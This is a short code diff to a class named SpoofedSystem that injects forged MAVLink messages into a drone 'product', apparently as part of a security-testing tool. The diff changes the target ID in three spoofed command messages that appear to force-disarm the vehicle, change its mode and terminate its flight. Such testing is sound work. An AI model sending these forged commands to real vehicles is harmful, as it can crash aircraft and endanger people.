@@ -162,9 +162,9 @@ class SpoofedSystem(Injector):
             mavlink.MAVLink_heartbeat_message(2, 12, 1, 3 << 16, 3, 3),
             mavlink.MAVLink_heartbeat_message(2, 12, 1, 84148224, 4, 3),
             mavlink.MAVLink_local_position_ned_message(boot_ms, 90.0, -80.0, 5.0, 3.0, 3.0, 3.0),
-            mavlink.MAVLink_command_long_message(245, 191, 400, 0, 0.0, 21196.0, 0.0, 0.0, 0.0, 0.0, 0.0),
-            mavlink.MAVLink_command_long_message(245, 191, 176, 0, 1.0, 4.0, 6.0, 0.0, 0.0, 0.0, 0.0),
-            mavlink.MAVLink_command_long_message(245, 191, 185, 0, 1.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0),
+            mavlink.MAVLink_command_long_message(233, 191, 400, 0, 0.0, 21196.0, 0.0, 0.0, 0.0, 0.0, 0.0),
+            mavlink.MAVLink_command_long_message(233, 191, 176, 0, 1.0, 4.0, 6.0, 0.0, 0.0, 0.0, 0.0),
+            mavlink.MAVLink_command_long_message(233, 191, 185, 0, 1.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0),
             mavlink.MAVLink_sys_status_message(0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0),
         ):
             proxy_of(at).inject_to_product(bytes(message.pack(self._voice, force_mavlink1=self._version_1)))
